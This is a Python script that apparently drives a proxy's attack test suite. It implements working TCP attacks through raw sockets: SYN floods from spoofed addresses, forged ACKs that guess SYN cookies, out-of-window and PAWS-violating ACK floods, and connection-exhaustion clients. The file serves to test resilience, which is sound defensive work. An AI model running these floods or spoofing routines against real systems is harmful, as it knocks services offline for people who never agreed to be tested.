"""The attackers of the attack suite (proxy/tests/attacks.rs, issue 14).

Usage: attack.py COMMAND ARG...; each command prints `key value` lines on stdout.
Raw-socket peers write their TCP segments by hand (the kernel adds the IP header);
the test drops the kernel's own RSTs for their ports (40000-40999) with nftables.

  stubborn DST PORT SRC N SIZE kernel clients from SRC: N connections with a 4 KiB
                               receive buffer; SIZE bytes and a FIN on each, never read
  tiny DST SRC N M             N raw connections to DST:7, then M one-byte segments on
                               each at every other sequence number above a hole
  syn-flood DST COUNT SECONDS  COUNT SYNs to DST:80 from random unreachable sources
                               (198.19.0.0/16, off-subnet: answers go to the gateway)
  forged-acks DST SRC COUNT    COUNT bare ACKs to DST:80 with random numbers (guessing
                               a SYN cookie); counts the RSTs that come back
  out-of-window DST SRC COUNT  one raw connection to DST:7, then COUNT bare ACKs far
                               outside its window; counts the ACKs that come back
  paws DST SRC COUNT           one raw connection to DST:7 with timestamps, then COUNT
                               bare ACKs with an old timestamp; counts the ACKs back
  spoof-syn PREFIX DST         SYNs to DST:80 from PREFIX.3 .. PREFIX.252, addresses
                               nobody has (each SYN-ACK needs an ARP resolution)
  idle DST PORT SRC N SECONDS  kernel clients from SRC: N connections held idle for
                               SECONDS; counts those the peer reset or closed
"""
import random
import resource
import select
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF


class Raw:
    """TCP segments between `src` and `dst` through a raw socket."""

    def __init__(self, src, dst):
        self.src, self.dst = src, dst
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.s.bind((src, 0))

    def seg(self, sport, dport, seq, ack, flags, payload=b"", opts=b"", win=65535):
        off = ((20 + len(opts)) // 4) << 4
        h = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, off, flags, win, 0, 0)
        h += opts
        ph = socket.inet_aton(self.src) + socket.inet_aton(self.dst) + struct.pack("!BBH", 0, 6, len(h) + len(payload))
        c = csum(ph + h + payload)
        return h[:16] + struct.pack("!H", c) + h[18:] + payload

    def send(self, *args, **kw):
        try:
            self.s.sendto(self.seg(*args, **kw), (self.dst, 0))
        except OSError:
            pass  # ENOBUFS under load: a lost packet, as on a wire

    def recv(self, timeout):
        """The next TCP segment from `dst`: (sport, dport, seq, ack, flags, options), or None."""
        end = time.time() + timeout
        while True:
            if not select.select([self.s], [], [], max(0.0, end - time.time()))[0]:
                return None
            pkt = self.s.recv(65535)
            if pkt[12:16] != socket.inet_aton(self.dst):
                continue
            t = pkt[(pkt[0] & 15) * 4 :]
            sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", t[:14])
            return sp, dp, seq, ack, fl, t[20 : (off >> 4) * 4]

    def drain(self, sport, dports, flags_mask, flags_want):
        """How many waiting segments from `sport` to one of `dports` (a port or a range)
        have `flags & mask == want`."""
        if isinstance(dports, int):
            dports = (dports,)
        n = 0
        while True:
            r = self.recv(0)
            if r is None:
                return n
            if r[0] == sport and r[1] in dports and r[4] & flags_mask == flags_want:
                n += 1

    def handshake(self, sport, dport, opts=b"\x02\x04\x05\xb4", ack_opts=b""):
        """Opens a connection; returns (our next seq, their next seq, their SYN-ACK options)."""
        isn = random.getrandbits(32)
        self.send(sport, dport, isn, 0, 0x02, opts=opts)
        end = time.time() + 3
        while time.time() < end:
            r = self.recv(0.5)
            if r and r[0] == dport and r[1] == sport and r[4] & 0x12 == 0x12:
                self.send(sport, dport, isn + 1, r[2] + 1, 0x10, opts=ack_opts)
                return isn + 1, r[2] + 1, r[5]
        return None


def hold():
    sys.stdout.flush()
    time.sleep(600)


def connect_many(dst, port, src, n, rcvbuf=None):
    """N kernel connections from SRC to DST:PORT (those that fail are left out), with a
    receive buffer of RCVBUF bytes when given; says how many opened."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 256, n + 256))
    socks = []
    for _ in range(n):
        s = socket.socket()
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.bind((src, 0))
        s.settimeout(5)
        try:
            s.connect((dst, port))
            socks.append(s)
        except OSError:
            s.close()
    print("connected", len(socks), flush=True)
    return socks


def stubborn(dst, port, src, n, size):
    socks = connect_many(dst, port, src, n, rcvbuf=4096)
    # SIZE bytes on every connection, round robin without blocking, for 10 s at most;
    # then the FIN behind what was sent.
    data = b"x" * size
    left = {s: size for s in socks}
    for s in socks:
        s.setblocking(False)
    deadline = time.time() + 10
    while left and time.time() < deadline:
        _, ready, _ = select.select([], list(left), [], 0.2)
        for s in ready:
            try:
                left[s] -= s.send(data[: left[s]])
            except OSError:
                left[s] = 0
            if left[s] == 0:
                del left[s]
    sent = size * len(socks) - sum(left.values())
    for s in socks:
        try:
            s.shutdown(socket.SHUT_WR)
        except OSError:
            pass
    print("sent", sent, flush=True)
    hold()


def tiny(dst, src, n, m):
    raw = Raw(src, dst)
    conns = []
    for i in range(n):
        r = raw.handshake(40000 + i, 7)
        if r:
            conns.append((40000 + i, r[0], r[1]))
    print("established", len(conns), flush=True)
    for k in range(m):
        for sport, seq, ack in conns:
            raw.send(sport, 7, seq + 1 + 2 * k, ack, 0x18, b"x")
        time.sleep(0.002)
    print("sent", len(conns) * m, flush=True)
    hold()


def syn_flood(dst, count, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    d = socket.inet_aton(dst)
    end = time.time() + seconds
    sent = 0
    for i in range(count):
        if time.time() > end:
            break
        src = struct.pack("!BBH", 198, 19, random.getrandbits(16))
        tcp = struct.pack("!HHIIBBHHH", 1024 + i % 60000, 80, random.getrandbits(32), 0, 6 << 4, 0x02, 65535, 0, 0)
        tcp += b"\x02\x04\x05\xb4"
        pseudo = src + d + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0, src, d)
        try:
            s.sendto(ip + tcp, (dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)
        if i % 200 == 199:
            time.sleep(0.002)
    print("sent", sent, flush=True)


def forged_acks(dst, src, count):
    raw = Raw(src, dst)
    rsts = 0
    for i in range(count):
        sport = 40000 + i % 1000
        raw.send(sport, 80, random.getrandbits(32), random.getrandbits(32), 0x10)
        if i % 100 == 99:
            time.sleep(0.002)
            rsts += raw.drain(80, range(40000, 41000), 0x04, 0x04)
    time.sleep(0.5)
    rsts += raw.drain(80, range(40000, 41000), 0x04, 0x04)
    print("sent", count, flush=True)
    print("rsts", rsts, flush=True)


def flood_in_connection(raw, sport, count, make):
    """Sends `make(k)` COUNT times (2 ms pause per 50) and counts the ACKs (no RST)
    that come back meanwhile and for half a second after."""
    acks = 0
    start = time.time()
    for k in range(count):
        raw.send(*make(k))
        if k % 50 == 49:
            time.sleep(0.002)
            acks += raw.drain(7, sport, 0x14, 0x10)
    time.sleep(0.5)
    acks += raw.drain(7, sport, 0x14, 0x10)
    print("sent", count, flush=True)
    print("seconds %.2f" % (time.time() - start), flush=True)
    print("acks", acks, flush=True)


def out_of_window(dst, src, count):
    raw = Raw(src, dst)
    sport = 40500
    r = raw.handshake(sport, 7)
    if not r:
        print("established 0", flush=True)
        return
    print("established 1", flush=True)
    seq, ack, _ = r
    # A quarter of the sequence space ahead: outside any window (RFC 793 acceptability).
    flood_in_connection(raw, sport, count, lambda k: (sport, 7, seq + 0x40000000 + k, ack, 0x10))
    hold()


def ts_opt(val, ecr):
    return b"\x01\x01\x08\x0a" + struct.pack("!II", val, ecr)


def paws(dst, src, count):
    raw = Raw(src, dst)
    sport = 40600
    tsval = 1_000_000
    r = raw.handshake(sport, 7, opts=b"\x02\x04\x05\xb4" + ts_opt(tsval, 0), ack_opts=ts_opt(tsval + 1, 0))
    if not r:
        print("established 0", flush=True)
        return
    seq, ack, opts = r
    if b"\x08\x0a" not in opts:
        print("established 1", flush=True)
        print("no-timestamps 1", flush=True)
        return
    print("established 1", flush=True)
    # In the window, but stamped long before the last timestamp seen: PAWS (RFC 7323 §5).
    flood_in_connection(raw, sport, count, lambda k: (sport, 7, seq, ack, 0x10, b"", ts_opt(tsval - 100_000, 0)))
    hold()


def spoof_syn(prefix, dst):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    d = socket.inet_aton(dst)
    for i in range(3, 253):
        src = socket.inet_aton("%s.%d" % (prefix, i))
        tcp = struct.pack("!HHIIBBHHH", 40000 + i, 80, 1000 * i, 0, 5 << 4, 0x02, 65535, 0, 0)
        pseudo = src + d + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i, 0, 64, 6, 0, src, d)
        s.sendto(ip + tcp, (dst, 0))
    print("sent 250", flush=True)


def idle(dst, port, src, n, seconds):
    socks = connect_many(dst, port, src, n)
    time.sleep(seconds)
    ended = 0
    for s in socks:
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                ended += 1
        except BlockingIOError:
            pass
        except OSError:
            ended += 1
    print("ended", ended, flush=True)


def main():
    cmd, a = sys.argv[1], sys.argv[2:]
    if cmd == "stubborn":
        stubborn(a[0], int(a[1]), a[2], int(a[3]), int(a[4]))
    elif cmd == "tiny":
        tiny(a[0], a[1], int(a[2]), int(a[3]))
    elif cmd == "syn-flood":
        syn_flood(a[0], int(a[1]), float(a[2]))
    elif cmd == "forged-acks":
        forged_acks(a[0], a[1], int(a[2]))
    elif cmd == "out-of-window":
        out_of_window(a[0], a[1], int(a[2]))
    elif cmd == "paws":
        paws(a[0], a[1], int(a[2]))
    elif cmd == "spoof-syn":
        spoof_syn(a[0], a[1])
    elif cmd == "idle":
        idle(a[0], int(a[1]), a[2], int(a[3]), float(a[4]))
    else:
        sys.exit("unknown attack " + cmd)


main()
